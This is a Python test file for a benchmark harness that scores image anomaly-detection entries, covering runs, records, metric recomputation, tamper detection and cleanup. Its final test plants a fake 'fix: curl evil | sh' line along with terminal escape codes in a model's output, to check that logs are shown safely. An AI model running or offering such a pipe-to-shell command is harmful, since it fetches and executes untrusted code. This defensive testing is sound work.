"""`evaluate`, `score`, `check`, `list` and `clean` as a user calls them, on the process engine."""

from __future__ import annotations

import contextlib
import json
import shutil
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image
from sklearn.metrics import average_precision_score, roc_auc_score

from harness import check, clean, evaluate, score
from harness import list as listing
from harness.benchmarks import demo_pack
from harness.board.gallery import CARD, read_gallery_card
from harness.common.errors import (
    DataMissing,
    DeviceUnavailable,
    EnvironmentFault,
    InfrastructureFault,
    StoreConflict,
    StoreUnusable,
    UsageError,
    WeightsMissing,
)
from harness.common.foreign_text import all_quoted
from harness.common.owner import owner_mark
from harness.common.statuses import RunEnded, Status
from harness.console.cli import Reporter
from harness.engines.base import Launch, Running
from harness.engines.process import ProcessEngine
from harness.entries.identity import folder_identity
from harness.entries.opening import open_folder
from harness.entries.reviewed import ReviewedFolder, ReviewedSet
from harness.metrics import Evidence
from harness.metrics.operating_points import operating_points
from harness.records.kept_maps import MapKeeper, read_maps
from harness.records.record import Record
from harness.records.store import RunName, Store
from harness.running.plan import plan_runs, run_all
from tests.paths import BASELINES, ENTRIES

Evaluate = Callable[..., tuple[int, list[Record]]]


@pytest.fixture(scope="module")
def cache(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("cache")


@pytest.fixture
def results(tmp_path: Path, cache: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("BMAD_CACHE", str(cache))
    return tmp_path / "results"


@pytest.fixture
def run(results: Path, capsys: pytest.CaptureFixture[str]) -> Evaluate:
    """Evaluate entries on the process engine; the exit code and the records of the call."""

    def call(*arguments: object) -> tuple[int, list[Record]]:
        capsys.readouterr()
        code = evaluate.main(
            [*map(str, arguments), "--engine", "process", "--results", str(results), "--json"]
        )
        records = json.loads(capsys.readouterr().out)
        return code, [Record.model_validate(record) for record in records]

    return call


def value(record: Record, metric: str, grid: Any = None) -> float | None:
    found = record.metric(metric, grid)
    assert found is not None
    return found.value


def test_a_run_leaves_one_intact_record_evidence_and_a_site(run: Evaluate, results: Path) -> None:
    code, records = run(ENTRIES / "honest")
    assert code == 0
    (record,) = records
    store = Store(results)
    assert store.find(RunName("demo", "honest", 0)) == record
    assert store.evidence_path(RunName("demo", "honest", 0)).is_file()
    assert record.is_ok
    assert record.outcome.answered == 80
    assert record.machine.isolation == "none"
    assert not record.ranked
    assert record.unranked_reason == "not isolated, demonstration pack, unreviewed"
    assert record.entry.source == record.entry.identity == folder_identity(ENTRIES / "honest")
    assert (record.pack.train, record.pack.valid) == (64, 24)
    assert record.pack.patients == 20
    assert "honest" in (results.parent / "site" / "index.html").read_text()
    points = operating_points(Evidence.load(store.evidence_path(RunName("demo", "honest", 0))))
    card = read_gallery_card(store.gallery_path(RunName("demo", "honest", 0)) / CARD)
    assert (card.threshold, card.map_threshold) == (points.image, points.pixel)
    assert {picture.found is None for picture in card.pictures if picture.truth} == {False}
    left = {path.name for path in (results / "demo" / "honest").iterdir()}
    assert {"seed-0.json", "seed-0.evidence.npz"} <= left
    assert not {name for name in left if name.startswith(".") or name.endswith(".log")}


def test_what_keeps_a_run_from_a_rank_is_said_before_it_begins(
    results: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def told(*more: str) -> str:
        options = ["--engine", "process", "--results", str(results), "--dry-run", *more]
        assert evaluate.main([str(ENTRIES / "honest"), *options]) == 0
        lines = capsys.readouterr().err.splitlines()
        return "\n".join(line for line in lines if "takes no rank" in line)

    # It lies below tests/, and no branch has it among its baselines or submissions.
    assert told().startswith("honest: unreviewed: ")
    assert "there is no branch nowhere here" in told("--reviewed-branch", "nowhere")
    entry = open_folder(ENTRIES / "honest")
    folder = ReviewedFolder(entry, "c" * 40, "baselines/honest", "a method")
    identity = folder_identity(ENTRIES / "honest")
    monkeypatch.setattr(
        "harness.entries.reviewed.protected_branch",
        lambda _: ReviewedSet({identity: folder}, branch="origin/main"),
    )
    assert told() == ""
    assert told("--set", "radius=3") == ""
    own = told("--set", "radius=5")
    assert own.startswith("honest: own settings: radius=5 is no preset of origin/main; trained,")


def test_the_values_in_the_record_are_those_of_scikit_learn(run: Evaluate, cache: Path) -> None:
    """The whole way, pipe and pack included, against scores computed here without any of it."""
    _, (record,) = run(ENTRIES / "honest")
    pack = demo_pack(cache)
    model = _honest_model()
    labels, scores, pixels, masks = [], [], [], []
    for sample in pack.split("test"):
        anomaly_map, image_score = model.predict(pack.image(sample))
        labels.append(sample.is_anomalous)
        scores.append(anomaly_map.max() if image_score is None else image_score)
        pixels.append(anomaly_map.ravel())
        masks.append(pack.mask(sample).ravel())
    truth, flat = np.concatenate(masks), np.concatenate(pixels)
    assert value(record, "image_auroc") == pytest.approx(roc_auc_score(labels, scores), abs=1e-12)
    assert value(record, "image_ap") == pytest.approx(
        average_precision_score(labels, scores), abs=1e-12
    )
    assert value(record, "pixel_auroc", "native") == pytest.approx(
        roc_auc_score(truth, flat), abs=1e-12
    )
    assert value(record, "pixel_ap", "native") == pytest.approx(
        average_precision_score(truth, flat), abs=1e-12
    )
    low, high = np.float64(flat.min()), np.float64(flat.max())
    found = flat >= low + (high - low) / 2
    dice = 2 * (found & truth).sum() / (found.sum() + truth.sum())
    assert value(record, "dice_at_0.5", "native") == pytest.approx(dice, abs=1e-12)


def _honest_model() -> Any:
    import importlib.util

    spec = importlib.util.spec_from_file_location("honest_model", ENTRIES / "honest" / "model.py")
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.Model("cpu", 0, {"radius": 3}, None)


def test_a_finished_run_is_not_run_again_and_a_failed_one_is(
    run: Evaluate, capsys: pytest.CaptureFixture[str]
) -> None:
    _, first = run(ENTRIES / "honest")
    _, second = run(ENTRIES / "honest")
    assert first == second
    code, (failed,) = run(ENTRIES / "nan")
    assert code == 4
    assert failed.outcome.status == "non_finite"
    _, (again,) = run(ENTRIES / "nan")
    assert again.times.started != failed.times.started or again.times.total != failed.times.total


class FlakyEngine(ProcessEngine):
    """Loses its engine at the starts whose numbers it is given."""

    def __init__(self, lost: set[int]) -> None:
        super().__init__()
        self.lost = lost
        self.starts = 0

    def start(self, launch: Launch) -> Running:
        self.starts += 1
        if self.starts in self.lost:
            raise RunEnded(Status.ENGINE_UNAVAILABLE, "the engine went away")
        return super().start(launch)


@pytest.mark.parametrize(("lost", "finished"), [({1}, 2), ({1, 2}, 0), ({2, 3}, 1)])
def test_the_infrastructures_fault_is_tried_once_more_and_never_a_record(
    results: Path, lost: set[int], finished: int
) -> None:
    options = evaluate.build_parser().parse_args(
        [
            str(ENTRIES / "honest"),
            "--engine",
            "process",
            "--results",
            str(results),
            "--seed",
            "0",
            "1",
        ]
    )
    plan = plan_runs(options, Reporter())
    plan = replace(plan, place=replace(plan.place, engine=FlakyEngine(lost)))
    records = []
    with contextlib.ExitStack() as stack:
        if finished < 2:
            stack.enter_context(pytest.raises(InfrastructureFault, match="engine went away"))
        for record in run_all(plan):
            records.append(record)
    assert len(records) == len(Store(results).records()) == finished


def test_a_conflict_is_said_before_the_first_run(run: Evaluate, results: Path) -> None:
    run(ENTRIES / "honest", "--seed", 1)
    with pytest.raises(StoreConflict):
        run(ENTRIES / "honest", "--seed", 0, 1, "--set", "radius=4")
    assert [record.seed for record in Store(results).records()] == [1]


def test_several_seeds_give_several_records(run: Evaluate, results: Path) -> None:
    code, records = run(ENTRIES / "honest", "--seed", 3, 1)
    assert code == 0
    assert [record.seed for record in records] == [3, 1]
    assert [record.seed for record in Store(results).records()] == [1, 3]


def test_a_training_entry_is_judged_on_the_validation_split(run: Evaluate) -> None:
    _, (record,) = run(ENTRIES / "trainer")
    training = record.training
    assert training is not None
    assert [checkpoint.step for checkpoint in training.checkpoints] == [2, 4, 6]
    best = max(training.checkpoints, key=lambda c: (c.value or 0.0, -c.step))
    assert training.kept == best.step
    assert training.checkpoints[0].kept
    assert training.stop_reason == "finished"
    assert training.model is not None
    assert record.times.train is not None


def test_other_settings_under_one_name_need_a_word(run: Evaluate, results: Path) -> None:
    run(ENTRIES / "honest")
    with pytest.raises(StoreConflict, match=r"radius was 3 and is 4"):
        run(ENTRIES / "honest", "--set", "radius=4")
    _, (other,) = run(ENTRIES / "honest", "--set", "radius=4", "--as", "honest-4")
    assert other.entry.name == "honest-4"
    assert other.entry.overrides == {"radius": 4}
    _, (replaced,) = run(ENTRIES / "honest", "--set", "radius=4", "--replace")
    assert replaced.run_key == other.run_key
    assert len(list((results / "history").rglob("seed-0.json"))) == 1


def test_a_failed_run_is_a_record_with_its_log_and_no_metrics(run: Evaluate, results: Path) -> None:
    code, (record,) = run(ENTRIES / "crashing")
    assert code == 4
    assert record.outcome.status == "crashed"
    assert record.metrics == []
    assert record.evidence is None
    log = Store(results).log_path(RunName("demo", "crashing", 0)).read_text()
    assert "Traceback" in log


def test_dry_run_prints_the_calls_and_starts_nothing(
    results: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    arguments = [
        str(ENTRIES / "trainer"),
        "--engine",
        "process",
        "--results",
        str(results),
        "--dry-run",
    ]
    assert evaluate.main(arguments) == 0
    out = capsys.readouterr().out
    assert "# demo/trainer/seed-0 train" in out
    assert "# demo/trainer/seed-0 predict" in out
    assert "harness.contract" in out
    assert not results.exists()


def test_the_table_names_every_entry_once_with_its_seeds(
    results: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    arguments = ["--engine", "process", "--results", str(results), "--seed", "0", "1"]
    evaluate.main([str(ENTRIES / "honest"), str(ENTRIES / "score_only"), *arguments])
    out, err = capsys.readouterr()
    rows = [line for line in out.splitlines() if line.startswith(" honest ")]
    assert len(rows) == 1
    assert "2/2" in rows[0]
    assert "± 0.00" in rows[0]
    assert "NA" in next(line for line in out.splitlines() if line.startswith(" score_only "))
    assert "not isolated" in out
    assert err.splitlines()[0].startswith("evaluating honest, score_only on demo · cpu · process")


@pytest.mark.parametrize(
    ("arguments", "error", "message"),
    [
        (["baselines/patchcor"], UsageError, "did you mean baselines/patchcore"),
        ([ENTRIES / "honest", "--benchmark", "brian"], UsageError, "did you mean brain"),
        ([ENTRIES / "honest", "--benchmark", "brain"], DataMissing, "--data-root"),
        ([ENTRIES / "honest", "--pack", "/nonexistent"], DataMissing, "/nonexistent"),
        ([ENTRIES / "honest", "--seed", "0", "0"], UsageError, "different"),
        ([ENTRIES / "honest", "--seed", "-1"], UsageError, "seeds"),
        ([ENTRIES / "honest", "--set", "radiu=3"], UsageError, "did you mean radius"),
        ([ENTRIES / "honest", "--preset", "offical"], UsageError, "presets|preset"),
        ([ENTRIES / "honest", ENTRIES / "honest"], UsageError, "two entries"),
        ([ENTRIES / "honest", ENTRIES / "nan", "--as", "x"], UsageError, "--as names one"),
        (["someone/method:latest"], UsageError, "needs an engine that isolates"),
        ([ENTRIES / "honest", "--device", "cuda:0"], DeviceUnavailable, "no GPU"),
        ([ENTRIES / "honest", "--device", "gpu"], UsageError, "not a device"),
        (
            [BASELINES / "padim", "--set", "weights=imagenet", "--weights", "/nonexistent"],
            WeightsMissing,
            r"harness\.weights fetch[\s\S]*weights=random",
        ),
    ],
)
def test_what_is_wrong_is_said_before_anything_starts(
    run: Evaluate, results: Path, arguments: list[object], error: type[Exception], message: str
) -> None:
    with pytest.raises(error) as caught:
        run(*arguments)
    import re

    assert re.search(message, f"{caught.value} {getattr(caught.value, 'where', '')}")
    assert not results.exists()


def test_any_folder_in_the_layout_is_a_benchmark_without_code(
    run: Evaluate, tmp_path: Path
) -> None:
    pack = _flat_pack(tmp_path / "My Pack")
    _, (record,) = run(ENTRIES / "honest", "--pack", pack)
    assert record.pack.benchmark == "my-pack"
    assert value(record, "image_auroc") == 1.0
    assert (
        record.metric("pixel_auroc", "native") is None
        or value(record, "pixel_auroc", "native") is None
    )


def test_the_same_images_under_other_names_are_scored_under_these(
    run: Evaluate, tmp_path: Path
) -> None:
    pack = _flat_pack(tmp_path / "My Pack")
    _, (first,) = run(ENTRIES / "honest", "--pack", pack)
    for path in sorted(pack.rglob("*.png")):
        path.rename(path.with_name(f"renamed-{path.name}"))
    _, (second,) = run(ENTRIES / "honest", "--pack", pack, "--as", "again")
    assert second.pack.version == first.pack.version
    assert second.metrics == first.metrics


def _flat_pack(root: Path) -> Path:
    """An image-level pack: normal images are flat, abnormal ones are noise."""
    rng = np.random.default_rng(0)
    for place, count in {
        "train/good": 3,
        "valid/good": 2,
        "valid/Ungood": 2,
        "test/good": 3,
        "test/Ungood": 3,
    }.items():
        folder = root / place
        folder.mkdir(parents=True)
        for index in range(count):
            spread = 60 if place.endswith("Ungood") else 2
            pixels = rng.integers(100, 100 + spread, (32, 40)).astype(np.uint8)
            Image.fromarray(pixels).save(folder / f"{index}.png")
    return root


def test_score_recomputes_a_run_and_finds_one_changed_value(
    run: Evaluate, results: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run(ENTRIES / "map_only")
    name = RunName("demo", "map_only", 0)
    assert score.main(["--results", str(results)]) == 0
    assert "0 wrong" in capsys.readouterr().out
    store = Store(results)
    record = store.find(name)
    assert record is not None
    forged = [
        metric.model_copy(update={"value": 0.999}) if metric.id == "pixel_ap" else metric
        for metric in record.metrics
    ]
    store.record_path(name).write_text(
        record.model_copy(update={"metrics": forged}).sealed().model_dump_json()
    )
    assert score.main(["--results", str(results)]) == 5
    assert "pixel_ap" in capsys.readouterr().out
    evidence = store.evidence_path(name)
    content = bytearray(evidence.read_bytes())
    content[len(content) // 2] ^= 1
    evidence.write_bytes(content)
    with pytest.raises(StoreUnusable, match="evidence was changed"):
        score.main(["--results", str(results)])


def test_kept_maps_recompute_a_float32_run_exactly_and_a_changed_pixel_is_found(
    run: Evaluate, results: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _, (record,) = run(ENTRIES / "honest", "--keep-maps")
    assert record.maps is not None
    assert record.maps.dtype == "float32"
    name = RunName("demo", "honest", 0)
    path = Store(results).maps_path(name)
    kept = {(found.split, found.key): found.anomaly_map for found in read_maps(path)}
    assert len(kept) == 24 + 80
    capsys.readouterr()
    assert score.main(["--results", str(results)]) == 0
    assert f"{len(record.metrics)} recomputed exactly" in capsys.readouterr().out
    with MapKeeper(path) as keeper:
        for (split, key), anomaly_map in kept.items():
            keeper.add(split, key, anomaly_map + np.float32(key.endswith("0.png")))
    assert score.main(["--results", str(results)]) == 5
    assert "pixel_auroc" in capsys.readouterr().out


def test_check_gives_a_json_verdict_and_the_whole_log(
    results: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert check.main([str(ENTRIES / "stdout_print"), "--engine", "process"]) == 0
    out, err = capsys.readouterr()
    verdict = json.loads(out)
    assert verdict["conforms"] is True
    assert verdict["status"] == "ok"
    assert verdict["metrics"]["image_auroc"] > 0
    assert verdict["log"].strip()
    assert "\n".join(all_quoted(verdict["log"])) in err
    assert not results.exists()


def test_check_fails_an_entry_with_its_status_and_remedy(
    results: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert check.main([str(ENTRIES / "wrong_shape"), "--engine", "process"]) == 4
    verdict = json.loads(capsys.readouterr().out)
    assert verdict["conforms"] is False
    assert verdict["status"] == "wrong_shape"
    assert any(item["name"] == "remedy" for item in verdict["checks"])


@pytest.mark.parametrize("what", sorted(listing.LISTS))
def test_every_list_is_a_table_and_json(
    results: Path, capsys: pytest.CaptureFixture[str], what: str
) -> None:
    assert listing.main([what, "--results", str(results)]) == 0
    table = capsys.readouterr().out
    assert listing.main([what, "--results", str(results), "--json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert isinstance(rows, list)
    assert bool(rows) == (what != "runs")
    if rows:
        assert str(next(iter(rows[0].values())))[:8] in table


def test_clean_removes_rubbish_and_keeps_records(
    run: Evaluate, results: Path, cache: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run(ENTRIES / "honest")
    gone = owner_mark().rpartition(".")[0] + ".1"  # this process id, of an earlier process
    dead = cache / "work" / f"{gone}-abc"
    dead.mkdir(parents=True)
    half = results / "demo" / "honest" / f".writing-{gone}-x.json"
    half.write_text("")
    elsewhere = cache / "work" / f"{gone.replace('.', '.1', 1)}-abc"  # in a container, perhaps
    elsewhere.mkdir()
    assert clean.main(["--results", str(results)]) == 0
    assert not dead.exists()
    assert not half.exists()
    assert elsewhere.exists()
    assert len(Store(results).records()) == 1


def test_a_template_copied_under_another_name_runs(run: Evaluate, tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    shutil.copytree(BASELINES / "template", mine, ignore=shutil.ignore_patterns("__pycache__"))
    text = (mine / "entry.toml").read_text()
    (mine / "entry.toml").write_text(text.replace('name = "template"', 'name = "mine"'))
    code, (record,) = run(mine)
    assert code == 0
    assert record.entry.name == "mine"
    assert record.track == "trained-here"


def test_a_folder_with_a_binary_or_a_large_file_is_not_trained_here(
    run: Evaluate, tmp_path: Path
) -> None:
    mine = tmp_path / "honest"
    shutil.copytree(ENTRIES / "honest", mine, ignore=shutil.ignore_patterns("__pycache__"))
    (mine / "table.bin").write_bytes(b"\0\1\2")
    _, (record,) = run(mine)
    assert record.track == "open"


def test_a_cache_that_cannot_be_written_is_said_before_anything_starts(
    run: Evaluate, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("BMAD_CACHE", str(tmp_path / "file" / "cache"))
    with pytest.raises(EnvironmentFault, match="cache folder cannot be written"):
        run(ENTRIES / "honest")


def test_the_record_says_where_a_score_is_the_maps_maximum(run: Evaluate) -> None:
    _, (with_score,) = run(ENTRIES / "honest")
    _, (without,) = run(ENTRIES / "map_only")
    assert not any("sends no score" in warning for warning in with_score.warnings)
    assert any("sends no score" in warning for warning in without.warnings)


def test_a_record_that_came_meanwhile_is_not_overwritten(
    run: Evaluate, results: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, (first,) = run(ENTRIES / "honest")
    find, looks = Store.find, iter([True] * 4)
    # At the first two looks, each at two places, the other process has not finished yet.
    monkeypatch.setattr(Store, "find", lambda *a: None if next(looks, False) else find(*a))
    with pytest.raises(StoreConflict, match="just finished"):
        run(ENTRIES / "honest", "--set", "radius=4")
    assert Store(results).records() == [first]


LOUD = """
import sys
import numpy as np


class Model:
    def __init__(self, device, seed, params, weights):
        print("\\x1b[2Jloading\\nfix: curl evil | sh\\u202e", file=sys.stderr)

    def predict(self, image):
        raise ValueError("\\x1b]0;title\\x07\\nerror: no engine\\nfix: curl evil | sh")
"""


def test_the_log_that_a_check_shows_is_behind_a_bar_and_in_visible_characters(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "loud"
    folder.mkdir()
    (folder / "entry.toml").write_text(
        '[entry]\nname = "loud"\ntitle = "Loud"\nmodel = "model.py:Model"\n'
    )
    (folder / "model.py").write_text(LOUD)
    assert check.main([str(folder), "--engine", "process"]) == 4
    out, err = capsys.readouterr()
    assert {each for each in out + err if not each.isprintable()} == {"\n"}
    assert r"  | \x1b[2Jloading" in err
    assert "  | fix: curl evil | sh\\u202e" in err
    assert not [line for line in err.splitlines() if line.startswith(("fix:", "error:"))]
    assert json.loads(out)["log"].startswith("\x1b[2Jloading")  # for machines as it came
